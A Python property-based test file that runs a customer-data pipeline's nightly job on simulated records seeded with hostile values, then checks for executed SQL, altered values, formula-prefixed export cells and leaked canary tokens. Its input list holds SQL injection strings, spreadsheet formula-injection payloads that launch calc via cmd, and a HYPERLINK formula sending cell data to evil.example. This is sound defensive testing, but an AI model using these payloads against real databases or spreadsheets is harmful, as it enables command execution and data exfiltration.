"""Values typed by strangers pass through the whole pipeline without breaking or executing anything.

Hypothesis draws one batch of hostile values (SQL fragments, spreadsheet formulas, control characters,
right-to-left marks, emoji, 100 kB strings and arbitrary text); they are planted in the names and streets of one
simulated population, and one nightly run carries them from the source APIs to the marts and the export files.
"""

from __future__ import annotations

import csv

import duckdb
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import simulator.simulation as simulation
from simulator import running_simulator
from simulator.malformed import legacy_bytes

# A name as a Windows-1252 till sends it: bytes that are not UTF-8 (the simulator writes them out raw).
LEGACY = legacy_bytes("Zoë Müller-Lüdenscheidt")
HOSTILE = [
    "'); drop table canary; --",
    "Robert'); DELETE FROM marts.customer_360; --",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u202eevil\u202c name",  # right-to-left override
    "tab\tnew\nline\rreturn\x00nul\x1bescape",
    "emoji 🧨🙂👨‍👩‍👧",
    "x" * 100_000,
    LEGACY,
]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Credentials recognisable anywhere they might leak: logs, the warehouse, run metadata, exports.
SECRETS = {name: f"canary-secret-{name.lower()}-7f3a9c" for name in ("SHOPIFY", "SQUARE", "HUBSPOT", "MAILCHIMP")}


def plant(values: list[str]):
    """A `generate` that writes `values` into the first customers' names and streets of every system."""
    original = simulation.generate

    def generate(*args, **kwargs):
        world = original(*args, **kwargs)
        for records in world.customers.values():
            for record, value in zip(records, values, strict=False):
                record.first, record.last, record.street = value, value[::-1], value
        return world

    return generate


@settings(
    max_examples=1,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(drawn=st.lists(st.text(min_size=1, max_size=40), min_size=10, max_size=10))
def test_hostile_values_pass_through_the_whole_night(drawn, tmp_path_factory, monkeypatch, capsys):
    from cdp_orchestration.cli import run_nightly

    home = tmp_path_factory.mktemp("hostile")
    values = HOSTILE + drawn
    monkeypatch.setattr(simulation, "generate", plant(values))
    with running_simulator(home=home, people=120, seed=9, in_thread=True) as base_url:
        env = {
            "CDP_HOME": str(home),
            "CDP_PEOPLE": "120",
            "CDP_SEED": "9",
            "DESTINATIONS__MAILCHIMP__BASE_URL": f"{base_url}/3.0",
            "DESTINATIONS__MAILCHIMP__API_KEY": SECRETS["MAILCHIMP"],
        }
        for source in ("SHOPIFY", "SQUARE", "HUBSPOT"):
            env[f"SOURCES__{source}__BASE_URL"] = base_url
            env[f"SOURCES__{source}__ACCESS_TOKEN"] = SECRETS[source]
        for key, value in env.items():
            monkeypatch.setenv(key, value)
        monkeypatch.delenv("DAGSTER_HOME", raising=False)
        with duckdb.connect(str(home / "warehouse.duckdb")) as con:
            con.execute("create table canary as select 1 as alive")
        assert run_nightly() == 0
    printed = capsys.readouterr()

    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
        assert con.sql("select alive from canary").fetchall() == [(1,)], "a planted statement was executed"
        truth = con.sql(
            f"select count(*) from read_csv('{home / 'simulator' / 'truth.csv'}') where source_system = 'shopify'"
        ).fetchall()[0][0]
        assert con.sql("select count(*) from raw_shopify.customers").fetchall()[0][0] == truth
        # Nothing lost or altered: every planted value arrived exactly as the source sent it, except bytes that are
        # not UTF-8: those arrived as U+FFFD, the record flagged and its bytes as sent kept in quarantine.
        names = {row[0] for row in con.sql("select first_name from raw_shopify.customers").fetchall()}
        arrived = {value.replace(LEGACY, "Zo\ufffd M\ufffdller-L\ufffddenscheidt") for value in values}
        assert arrived <= names, [v[:40] for v in arrived - names]
        kept = con.sql("select payload_bytes from raw_shopify.quarantine where reason like '%not valid UTF-8%'")
        assert any(LEGACY.encode("utf-8", "surrogateescape") in bytes(row[0]) for row in kept.fetchall())
        mapped = con.sql("select count(*) from marts.customer_id_map").fetchall()[0][0]
        assert mapped == con.sql("select count(*) from intermediate.int_person_records").fetchall()[0][0]
    for export in (home / "exports").rglob("*.csv"):
        with export.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not (cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)), (export, cell[:60])
    assert (home / "analytics.duckdb").exists()

    # The same run, with known tokens: none of them is written anywhere or printed.
    leaks = [
        str(path.relative_to(home))
        for path in home.rglob("*")
        if path.is_file()
        and "simulator" not in path.parts
        and any(secret.encode() in path.read_bytes() for secret in SECRETS.values())
    ]
    assert not leaks, f"a credential was written to {leaks}"
    assert not any(secret in printed.out + printed.err for secret in SECRETS.values())


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(" ", ""))
        return True
    except ValueError:
        return False
